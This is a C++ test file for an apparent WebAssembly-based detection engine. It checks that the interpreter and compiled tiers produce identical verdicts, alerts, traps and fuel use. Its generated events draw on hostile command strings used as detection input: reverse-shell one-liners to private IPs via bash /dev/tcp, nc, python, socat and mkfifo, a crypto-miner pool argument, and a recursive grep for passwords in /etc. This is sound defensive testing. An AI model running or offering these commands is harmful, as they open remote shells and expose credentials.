// Both tiers run the same canonical module, so on the same events they must agree exactly:
// same verdict, same alerts, same trap kind and the same fuel used — over the bundled sample
// log and over generated events (random command lines, attack strings, values too long for
// the event buffer, events that make a module trap).
#include <random>

#include "collect/replay/jsonl_replay_source.h"
#include "wasm_test_util.h"

namespace wsn::wasm::testing {
namespace {

std::vector<Event> generated_events(size_t n) {
  std::mt19937 rng(20261120);
  const std::vector<std::string> names = {"bash", "sh", "nc",   "python3", "xmrig",
                                          "sudo", "su", "curl", "socat",   "perl"};
  const std::vector<std::string> actions = {"exec", "fork", "end", "connection_attempted", "open"};
  const std::vector<std::string> pieces = {
      "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1",
      "nc -e /bin/sh 10.0.0.1 9001",
      "-o stratum+tcp://pool.minexmr.com:4444",
      "--donate-level 1",
      "ls -la",
      "/usr/bin/env",
      "python3 -c 'import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'",
      "socat exec:'bash -li',pty tcp:10.0.0.9:443",
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 80",
      "sudo -S id",
      "grep -r password /etc"};
  std::vector<Event> out;
  for (size_t k = 0; k < n; ++k) {
    std::string cmd;
    const int parts = 1 + static_cast<int>(rng() % 4);
    for (int p = 0; p < parts; ++p) cmd += pieces[rng() % pieces.size()] + " ";
    if (rng() % 50 == 0) cmd += std::string(20000 + rng() % 5000, 'A');  // beyond the buffer
    if (rng() % 7 == 0) {
      for (int b = 0; b < 40; ++b) cmd += static_cast<char>(1 + rng() % 255);  // arbitrary bytes
    }
    const std::string action = actions[rng() % actions.size()];
    Event e = process_event("gen-" + std::to_string(k), action, names[rng() % names.size()], cmd,
                            1'790'000'000'000'000'000 + static_cast<int64_t>(k) * 700'000'000);
    if (action == "end") e.set_int(fields::kProcessExitCode, rng() % 3 == 0 ? 1 : 0);
    if (action == "connection_attempted") {
      e.set_category(categories::kNetwork);
      e.set_int(fields::kDestinationPort, rng() % 2 ? 3333 : 443);
    }
    e.set_string(fields::kProcessUserName, rng() % 2 ? "www-data" : "maria");
    out.push_back(std::move(e));
  }
  return out;
}

struct Variant {
  std::string path;
  std::string config;
};

class DifferentialTest : public WasmFixture {
 protected:
  void SetUp() override {
    WasmFixture::SetUp();
    options_->tier = TierMode::kAuto;
    options_->aot_background = false;  // compile at load
  }
};

TEST_F(DifferentialTest, TiersAgreeOnVerdictsAlertsTrapsAndFuel) {
  auto sample =
      read_jsonl_file(std::string(WSN_SOURCE_DIR) + "/data/sample/linux-activity.jsonl", registry_);
  ASSERT_TRUE(sample.ok()) << sample.error().message;
  std::vector<Event> events = std::move(sample.value());
  const size_t sample_count = events.size();
  ASSERT_GT(sample_count, 2000u);
  for (Event& e : generated_events(3000)) events.push_back(std::move(e));

  std::vector<Variant> variants = {
      {test_module("busy"), ""},           {test_module("flaky"), ""},
      {test_module("state_flood"), ""},    {test_module("log_flood"), ""},
      {test_module("alert_flood"), ""},    {test_module("negative"), ""},
      {test_module("loop"), ""},           {test_module("recursion"), ""},
      {test_module("host_abuse"), ""},     {test_module("state_add_flood"), ""},
      {test_module("get_field_flood"), ""}};
  // Quarantine back-off runs on this clock, advanced per event, so both runners leave
  // quarantine on the same event however long each tier takes.
  int64_t clock_ms = 0;
  options_->clock_ms = [&clock_ms] { return clock_ms; };
  for (const char* lang : {"c", "cpp", "wat", "as"}) {
    for (const char* rule : {"reverse_shell", "crypto_miner", "failed_sudo"}) {
      const std::string p = sdk_module(std::string(lang) + "_" + rule);
      if (std::filesystem::exists(p)) {
        // The WAT threshold rule has its settings built in (no wsn_init).
        const bool config = std::string(rule) == "failed_sudo" && std::string(lang) != "wat";
        variants.push_back({p, config ? "threshold=3 window=60" : ""});
      }
    }
  }
  ASSERT_GE(variants.size(), 5u);

  uint64_t total_calls = 0, total_traps = 0, total_matches = 0;
  for (const Variant& v : variants) {
    SCOPED_TRACE(v.path);
    auto m = load(v.path, v.config);
    ASSERT_TRUE(m);
    ASSERT_TRUE(m->aot_ready()) << m->aot_error();
    ModuleRunner interp(m, {0, "interp", FailMode::kOpen}, *options_, TierChoice::kInterpreterOnly);
    ModuleRunner compiled(m, {0, "compiled", FailMode::kOpen}, *options_,
                          TierChoice::kCompiledOnly);
    // Recorded events: fuel alone decides (HostileTest covers the deadline in both tiers).
    interp.set_live_events(false);
    compiled.set_live_events(false);
    RecordingSink si, sc;
    size_t mismatches = 0;
    for (const Event& e : events) {
      clock_ms += 50;
      interp.process(e, si);
      compiled.process(e, sc);
      const CallTrace& a = interp.last_call();
      const CallTrace& b = compiled.last_call();
      if (a.called != b.called || a.trap != b.trap || a.result != b.result ||
          a.fuel_used != b.fuel_used || a.alerts != b.alerts || a.trap_detail != b.trap_detail ||
          interp.last_error() != compiled.last_error()) {
        if (++mismatches <= 3) {
          FieldView id;
          e.get(fields::kEventId, id);
          ADD_FAILURE() << "event " << id.s << ": interpreter trap=" << trap_kind_name(a.trap)
                        << " result=" << a.result << " fuel=" << a.fuel_used
                        << " alerts=" << a.alerts << " (" << interp.last_error()
                        << ") / compiled trap=" << trap_kind_name(b.trap) << " result=" << b.result
                        << " fuel=" << b.fuel_used << " alerts=" << b.alerts << " ("
                        << compiled.last_error() << ")";
        }
      }
    }
    EXPECT_EQ(mismatches, 0u);
    ASSERT_EQ(si.all.size(), sc.all.size());
    for (size_t k = 0; k < si.all.size(); ++k) {
      EXPECT_EQ(si.all[k].event_id, sc.all[k].event_id);
      EXPECT_EQ(si.all[k].title, sc.all[k].title);
      EXPECT_EQ(si.all[k].details, sc.all[k].details);
      EXPECT_EQ(si.all[k].has_severity, sc.all[k].has_severity);
    }
    EXPECT_EQ(interp.stats().fuel_used, compiled.stats().fuel_used);
    EXPECT_EQ(interp.stats().traps, compiled.stats().traps);
    EXPECT_EQ(interp.stats().errors, compiled.stats().errors);
    EXPECT_EQ(interp.stats().quarantines, compiled.stats().quarantines);
    EXPECT_EQ(interp.stats().dropped_logs, compiled.stats().dropped_logs);
    EXPECT_EQ(interp.stats().state_evictions, compiled.stats().state_evictions);
    EXPECT_EQ(interp.stats().tier, Tier::kInterpreter);
    EXPECT_EQ(compiled.stats().tier, Tier::kCompiled);
    EXPECT_GT(interp.stats().fuel_used, 0u);
    total_calls += compiled.stats().calls;
    total_traps += compiled.stats().traps;
    total_matches += compiled.stats().matches;
  }
  // The comparison covered real work: detections and traps on both sides.
  EXPECT_GT(total_matches, 100u);
  EXPECT_GT(total_traps, 0u);
  EXPECT_GT(total_calls, events.size());
}

TEST_F(DifferentialTest, BackgroundBuildSwitchesARunningRuleToTheCompiledTier) {
  options_->aot_background = true;
  auto m = load(sdk_module("c_reverse_shell"));
  ASSERT_TRUE(m);
  std::vector<WasmRule> rules = {rule(0, m)};
  WasmRules set(std::move(rules), options_);
  auto matcher = set.make_matcher();
  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
  RecordingSink sink;
  matcher->process(process_event("a", "exec", "nc", "nc -e /bin/sh 10.0.0.1 1"), sink);
  loader().wait_idle();
  ASSERT_TRUE(m->aot_ready()) << m->aot_error();
  matcher->process(process_event("b", "exec", "nc", "nc -e /bin/sh 10.0.0.1 2"), sink);
  EXPECT_EQ(wm->runners()[0]->stats().tier, Tier::kCompiled);
  EXPECT_EQ(wm->runners()[0]->stats().tier_switches, 1u);
  EXPECT_EQ(sink.all.size(), 2u);
  // A second loader over the same cache finds the object without compiling.
  ModuleLoader again(*options_);
  LoadError err;
  FieldRegistry reg;
  auto m2 = again.load(sdk_module("c_reverse_shell"), "", reg, err);
  ASSERT_TRUE(m2) << err.message;
  EXPECT_TRUE(m2->aot_ready());
  EXPECT_EQ(again.stats().cache_hits, 1u);
  EXPECT_EQ(again.stats().compilations, 0u);
}

}  // namespace
}  // namespace wsn::wasm::testing
